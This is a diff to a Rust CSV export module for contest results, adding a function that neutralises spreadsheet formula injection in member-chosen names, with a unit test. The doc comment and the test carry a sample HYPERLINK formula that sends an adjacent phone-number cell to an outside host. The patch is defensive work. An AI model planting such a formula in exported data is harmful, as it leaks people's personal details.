@@ -3,6 +3,8 @@
 //! (UTC+7, no daylight saving). A results CSV streams row by row, so a 1,000,000-entry
 //! round is never held in memory.
 
+use std::borrow::Cow;
+
 use chrono::{DateTime, FixedOffset, Utc};
 use rust_xlsxwriter::{Format, Workbook, Worksheet, XlsxError};
 use uuid::Uuid;
@@ -119,12 +121,30 @@ pub fn csv_head_with(first: &[&str]) -> Vec<u8> {
     out
 }
 
+/// Keeps a spreadsheet from running a cell as a formula (CSV injection): members choose
+/// their own names, and judges open these files in Excel, where a name such as
+/// `=HYPERLINK("http://…?"&D2)` would send the phone next to it away. Text starting with
+/// `=`, `+`, `-` or `@` gets a leading tab, as the bank's CSV export does
+/// (`questions/formats/csv.rs`); numbers such as a negative prediction error or a `+84…`
+/// phone are left as they are.
+fn defuse(cell: &str) -> Cow<'_, str> {
+    if cell.starts_with(['=', '+', '-', '@']) && cell.parse::<f64>().is_err() {
+        Cow::Owned(format!("\t{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
 fn csv_line(fields: &[String]) -> Vec<u8> {
     let mut writer = csv::WriterBuilder::new()
         .terminator(csv::Terminator::CRLF)
         .from_writer(Vec::new());
+    let fields: Vec<Cow<'_, str>> = fields.iter().map(|f| defuse(f)).collect();
     // Writing to a Vec cannot fail; a failure would only drop this line.
-    if writer.write_record(fields).is_err() {
+    if writer
+        .write_record(fields.iter().map(|f| f.as_bytes()))
+        .is_err()
+    {
         return Vec::new();
     }
     writer.into_inner().unwrap_or_default()
@@ -270,5 +290,18 @@ mod tests {
         assert!(out.starts_with('\u{feff}'));
         assert!(out.contains("\"Ba Đình, Hà Nội\""));
         assert!(out.contains(",75.432,"));
+    }
+
+    #[test]
+    fn a_name_written_as_a_formula_is_defused_and_numbers_are_not() {
+        let mut hostile = row();
+        hostile.full_name = "=HYPERLINK(\"http://x/?\"&D2)".into();
+        hostile.prediction_error = Some(-16);
+        let out = String::from_utf8(csv_row(&hostile)).unwrap();
+        assert!(out.contains(",\"\t=HYPERLINK("), "{out}");
+        assert!(
+            out.contains(",+84912345678,") && out.contains(",-16,"),
+            "{out}"
+        );
     }
 }
